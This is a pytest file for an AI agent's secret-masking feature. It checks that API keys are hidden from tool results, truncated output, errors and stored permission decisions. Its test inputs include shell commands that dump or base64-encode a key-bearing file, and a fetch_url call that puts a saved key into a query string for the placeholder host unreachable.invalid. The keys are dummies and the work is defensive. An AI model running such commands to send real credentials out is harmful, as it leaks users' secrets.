"""Keys that are known never reach the store, the screen or a model through the result of a tool."""

import json
from base64 import b64encode

import pytest

from tests.agent.harness import DENY, User, names, play
from tests.cli.command_line import CommandLine
from yourtool.agent.session.known_secrets import find_known_secrets
from yourtool.foundation.masking import MASK, Mask
from yourtool.paths import resolve_paths
from yourtool.providers.scripted import Scripted, calls, says
from yourtool.settings.credentials import Credentials

KEY = "sk-ant-api03-" + "Zq7" * 30


@pytest.fixture
def line(home, tmp_path, monkeypatch, capsys, own_logging):
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    work = tmp_path / "work"
    work.mkdir()
    (work / "notes.txt").write_text(f"first\nkey={KEY}\nlast\n")
    return CommandLine(home, work, monkeypatch, capsys)


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        (
            "shell",
            {"command": "head -c 60 notes.txt; sleep 0.02; tail -c +61 notes.txt"},
        ),
        ("shell", {"command": "cat notes.txt; exit 3"}),
        ("shell", {"command": 'yes "$(cat notes.txt)" | head -4500'}),
        ("shell", {"command": "base64 notes.txt"}),
        ("read_file", {"path": "notes.txt"}),
        ("grep", {"pattern": "key="}),
        ("edit_file", {"path": "notes.txt", "old_text": "first", "new_text": "second"}),
        ("no_such_tool", {"text": KEY}),
    ],
)
def test_known_key_in_a_tool_result_is_masked(line, home, tool, arguments):
    line.script([{"call": tool, "input": arguments}], [{"say": "done"}])
    events = line.events("-p", "go", "--mode", "auto")
    events_shown = [
        e for e in events if e["type"] not in ("llm.call_completed", "message_complete")
    ]
    results = [e for e in events_shown if e["type"] in ("tool.completed", "tool.failed")]
    output = json.dumps([e for e in events_shown if not e["type"].startswith("tool_use")])
    assert len(results) == 1
    assert KEY not in output
    if tool != "no_such_tool":
        spilled = b"".join(path.read_bytes() for path in home.glob("state/spill/**/*.txt"))
        assert KEY.encode() not in spilled
    if tool in ("shell", "read_file", "grep"):
        assert MASK in output


@pytest.mark.req("R-CRD-04")
@pytest.mark.parametrize("old", [f"key={MASK}", MASK, f"first\nkey={MASK}\nlast"])
def test_line_with_a_hidden_key_cannot_be_edited(line, old):
    change = {"path": "notes.txt", "edits": [{"old": old, "new": "key=other"}]}
    line.script(
        [{"call": "read_file", "input": {"path": "notes.txt"}}],
        [{"call": "edit_file", "input": change}],
        [{"say": "done"}],
    )
    events = line.events("-p", "go", "--mode", "auto")
    assert [e["type"] for e in events if e["type"] in ("tool.completed", "tool.failed")] == [
        "tool.completed",
        "tool.failed",
    ]
    assert (line.workspace / "notes.txt").read_text() == f"first\nkey={KEY}\nlast\n"


@pytest.mark.parametrize("column", [1_901, 1_990, 1_999, 2**20 - 50])
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_file", {"path": "long.json"}),
        pytest.param("read_file", {"path": "huge.json"}, id="huge"),
        ("grep", {"pattern": "tail", "path": "long.json"}),
        ("grep", {"pattern": "head", "path": "long.json"}),
        ("grep", {"pattern": "q7", "ignore_case": True, "path": "long.json"}),
    ],
)
@pytest.mark.sample(12)
def test_truncated_key_in_a_truncated_line_is_masked(line, tool, arguments, column):
    before = "x" * (column - 204) + "head" + "é" * 200
    text = f"{before}{KEY}{'y' * 90}tail{'z' * 3_000}"
    line.workspace.joinpath("long.json").write_text(text)
    with line.workspace.joinpath("huge.json").open("w") as file:
        file.write(before.replace("é", "e") + KEY)
        if arguments["path"] == "huge.json":
            file.writelines("z" * 2**20 for _ in range(17))
    line.script([{"call": tool, "input": arguments}], [{"say": "done"}])
    events = line.events("-p", "go", "--mode", "auto")
    [result] = [e for e in events if e["type"] == "tool.completed"]
    output = json.dumps(result)
    assert "Zq7" not in output and "sk-ant" not in output
    if tool == "grep":
        assert "1 lines match" in output


@pytest.mark.parametrize("written", [str, lambda key: b64encode(key.encode()).decode()])
def test_url_with_a_saved_key_needs_approval(line, home, written):
    saved = "gsk_0123456789abcdefghij"
    Credentials(resolve_paths(), {}).save("groq", saved)
    url = f"http://unreachable.invalid/?k={written(saved)}"
    line.script([{"call": "fetch_url", "input": {"url": url}}], [{"say": "done"}])
    [failed] = [e for e in line.events("-p", "go", "--mode", "auto") if e["type"] == "tool.failed"]
    assert failed["error_class"] in ("user_denied", "permission_denied")
    assert "private address" not in failed["error_message"]


CUT = f"{'x' * 150}{KEY}"


@pytest.mark.parametrize(
    ("mode", "tool", "arguments"),
    [
        ("auto", "edit_file", {"path": "f", "edits": [{"old": "near " + "x" * 400, "new": "y"}]}),
        ("auto", "write_file", {"path": "f", "content": f"{'x' * 39_960}{KEY}{'y' * 300_000}"}),
        ("ask", "write_file", {"path": CUT, "content": ""}),
        ("ask", "shell", {"command": f"true {CUT}"}),
        ("auto", "read_file", {"path": "x" * 20 + KEY + "y" * 5_000}),
        ("auto", "glob", {"pattern": "x" * 20 + KEY + "y" * 5_000}),
        ("auto", "update_plan", {"steps": [{"text": "a", "status": "x" * 50 + KEY}]}),
    ],
)
def test_truncated_text_contains_no_part_of_a_key(line, mode, tool, arguments):
    line.workspace.joinpath("f").write_text(f"near {'x' * 1_985}{KEY}{'x' * 9_000}\n")
    line.script([{"call": tool, "input": arguments}], [{"say": "done"}])
    events = line.events("-p", "go", "--mode", mode)
    ended = [each for each in events if each["type"].startswith(("tool.", "result"))]
    output = json.dumps([each for each in ended if each["type"] != "tool.called"])
    assert "sk-ant" not in output and "Zq7" not in output


def test_nearest_line_of_a_key_in_wrapped_base64_is_masked(line):
    encoded = b64encode(("q" * 30 + KEY).encode()).decode()
    wrapped = [encoded[at : at + 76] for at in range(0, len(encoded), 76)]
    around = ("a letter with several words", *wrapped, "and the end of the letter")
    line.workspace.joinpath("wrapped.txt").write_text("\n".join(around))
    edit = {"old": "\n".join(around).replace("several", "many"), "new": "y"}
    call = {"call": "edit_file", "input": {"path": "wrapped.txt", "edits": [edit]}}
    line.script([call], [{"say": "done"}])
    events = line.events("-p", "go", "--mode", "auto")
    [failed] = [each for each in events if each["type"] == "tool.failed"]
    assert "[hidden key]" in failed["error_message"]
    assert wrapped[1][8:20] not in failed["error_message"]


def test_short_and_plain_values_are_not_secrets(home):
    environ = {
        "DB_PASSWORD": "postgres",
        "SSH_KEY": "/home/me/.ssh/id_ed25519",
        "DEPLOY_TOKEN": "production-server",
        "GITHUB_TOKEN": "ghp_0123456789abcdef",
        "OPENAI_API_KEY": "local-key",
    }
    assert set(find_known_secrets(resolve_paths(), environ)) == {
        "ghp_0123456789abcdef",
        "local-key",
    }


MANY_KEYS = Mask(f"sk-{number:02d}-{'Ab3' * 12}" for number in range(60))
LONG_COMMAND = "true " + "sk- " * 500_000


@pytest.mark.remaining
async def test_masking_of_a_long_command_does_not_block_the_loop(bench):
    adapter = Scripted([calls("shell", command=LONG_COMMAND), says("done")])
    session = await bench.session(adapter, confirm=User(DENY), mask=MANY_KEYS)
    events = await play(session.send("go"))
    assert "tool.confirmation_requested" in names(events)
    await session.close()


@pytest.mark.remaining
async def test_masking_of_a_long_command_of_the_user_does_not_block_the_loop(bench):
    session = await bench.session(Scripted([says("never")]), mask=MANY_KEYS)
    assert names(await play(session.run_shell(LONG_COMMAND, shared=True))) == ["shell.ran"]
    await session.close()


@pytest.mark.req("R-CRD-04")
def test_decision_about_a_command_with_a_key_is_stored_without_the_command(line):
    commands = f"echo {KEY}", "echo plain"
    line.script(
        *([{"call": "shell", "input": {"command": each}}] for each in commands), [{"say": "done"}]
    )
    events = line.events("-p", "go", "--mode", "auto")
    found = [event["judgement"] for event in events if event.get("judgement")]
    texts = [[each["text"] for each in judgement.get("subjects", ())] for judgement in found]
    assert texts == [[], ["echo plain"]]
